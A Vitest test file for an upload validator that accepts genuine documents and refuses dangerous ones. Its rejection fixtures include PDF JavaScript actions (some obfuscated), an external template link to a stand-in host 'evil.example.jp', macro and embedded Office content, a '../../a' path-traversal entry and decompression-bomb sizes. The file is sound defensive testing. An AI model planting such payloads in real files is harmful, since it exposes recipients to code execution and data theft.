import { mkdtempSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, expect, it, vi } from "vitest";
import { officePaper, packedObjects, pdfPaper, sentPaper, zipOf } from "@/tests/factories/papers";
import { png } from "@/tests/factories/pictures";

const folder = mkdtempSync(join(tmpdir(), "portal-papers-"));
vi.stubEnv("STORAGE_URL", `file://${folder}`);
// The environment is read once, so nothing that reads it may come before.
const { prepareDocument } = await import("@/lib/attachments/document");
const { DOCUMENT_BYTES_MAX } = await import("@/lib/attachments/limits");

afterAll(() => rmSync(folder, { recursive: true, force: true }));

const storedFiles = () =>
  readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).length;

const sjis = Uint8Array.from([0x91, 0x8a, 0x92, 0x6b, 0x0d, 0x0a]);
const utf16 = Buffer.from("\ufeff相談の一覧", "utf16le");

it.each([
  ["a PDF", pdfPaper(), "計画.pdf", "計画.pdf"],
  ["a PDF whose objects are packed", pdfPaper(packedObjects("1 0 << /Type /Page >>")), "計画.pdf", "計画.pdf"],
  ["a paper of Word", officePaper("docx"), "案.docx", "案.docx"],
  ["a paper of Word under another name", officePaper("docx"), "案.pdf.exe", "案.pdf.docx"],
  ["a workbook", officePaper("xlsx"), "表.xlsx", "表.xlsx"],
  [
    "slides with the figures of a chart",
    officePaper("pptx", [{ name: "ppt/embeddings/a.xlsx", content: officePaper("xlsx") }]),
    "説明.pptx",
    "説明.pptx",
  ],
  ["a text", "相談したいこと\r\n", "メモ.txt", "メモ.txt"],
  ["a text of an older encoding", sjis, "メモ.txt", "メモ.txt"],
  ["a table as Excel exports text", utf16, "一覧.CSV", "一覧.csv"],
  ["a picture", await png(), "図.jpg", "図.png"],
])("takes %s, by what it is", async (_what, content, name, shown) => {
  const prepared = await prepareDocument(sentPaper(content, name), "consultation");
  expect(prepared).toMatchObject({ ok: true, file: { fileName: shown, status: "CLEAN" } });
});

const script = "3 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj";
const locked = Buffer.concat([
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  Buffer.alloc(600),
  Buffer.from("EncryptedPackage", "utf16le"),
]);
const external =
  '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example.jp/a.dotm" TargetMode="External"/>';

it.each([
  ["empty", "", "a.txt"],
  ["too-big", new Uint8Array(DOCUMENT_BYTES_MAX + 1), "a.txt"],
  ["wrong-kind", "<html><script>alert(1)</script></html>", "a.html"],
  ["wrong-kind", "MZ\u0000\u0001", "a.txt"],
  ["wrong-kind", zipOf([{ name: "a.txt", content: "a" }]), "a.docx"],
  ["old-office", locked.subarray(0, 500), "a.doc"],
  ["encrypted", locked, "a.docx"],
  ["encrypted", pdfPaper("", "/Encrypt 9 0 R"), "a.pdf"],
  ["encrypted", zipOf([{ name: "[Content_Types].xml", content: "a", flags: 1 }]), "a.docx"],
  ["active", officePaper("docm"), "a.docx"],
  ["active", officePaper("docx", [{ name: "word/vbaProject.bin", content: "a" }]), "a.docx"],
  ["active", officePaper("docx", [{ name: "word/_rels/settings.xml.rels", content: external }]), "a.docx"],
  [
    "active",
    officePaper("docx", [{ name: "word/_rels/a.rels", content: external.replace(".dotm", "?b>c") }]),
    "a.docx",
  ],
  ["active", officePaper("pptx", [{ name: "ppt/embeddings/a.xlsx", content: officePaper("docm") }]), "a.pptx"],
  ["active", pdfPaper(script), "a.pdf"],
  ["active", pdfPaper(script.replace("/JavaScript", "/Java#53cript")), "a.pdf"],
  ["active", pdfPaper(packedObjects(script)), "a.pdf"],
  ["active", pdfPaper(`% >>\nstream\n${packedObjects(script)}`), "a.pdf"],
  ["embedded", pdfPaper("4 0 obj\n<< /EmbeddedFiles 5 0 R >>\nendobj"), "a.pdf"],
  ["embedded", officePaper("docx", [{ name: "word/embeddings/oleObject1.bin", content: "a" }]), "a.docx"],
  ["mixed", Buffer.concat([pdfPaper(), zipOf([{ name: "a", content: "a" }])]), "a.pdf"],
  ["mixed", Buffer.concat([officePaper("docx"), Buffer.from("<script>")]), "a.docx"],
  ["mixed", officePaper("docx", [{ name: "../../a", content: "a" }]), "a.docx"],
  ["unpacks-too-big", officePaper("docx", [{ name: "a", content: "a", says: 200 * 1024 * 1024 }]), "a.docx"],
  ["unpacks-too-big", pdfPaper(packedObjects(Buffer.alloc(101 * 1024 * 1024))), "a.pdf"],
  ["broken", officePaper("docx", [{ name: "a", content: Buffer.alloc(100_000), says: 10 }]), "a.docx"],
  ["broken", officePaper("docx").subarray(0, 200), "a.docx"],
  ["broken", pdfPaper().subarray(0, 30), "a.pdf"],
])("refuses what is %s, and stores nothing", async (cause, content, name) => {
  const before = storedFiles();
  expect(await prepareDocument(sentPaper(content, name), "consultation")).toEqual({ ok: false, cause });
  expect(storedFiles()).toBe(before);
});

it("looks once at each letter of relations without an end", async () => {
  const content = `<Relationships><!-- ${'oleObject"'.repeat(300_000)} --></Relationships>`;
  const paper = officePaper("docx", [{ name: "word/_rels/settings.xml.rels", content }]);

  expect(await prepareDocument(sentPaper(paper, "a.docx"), "consultation")).toMatchObject({ ok: true });
});
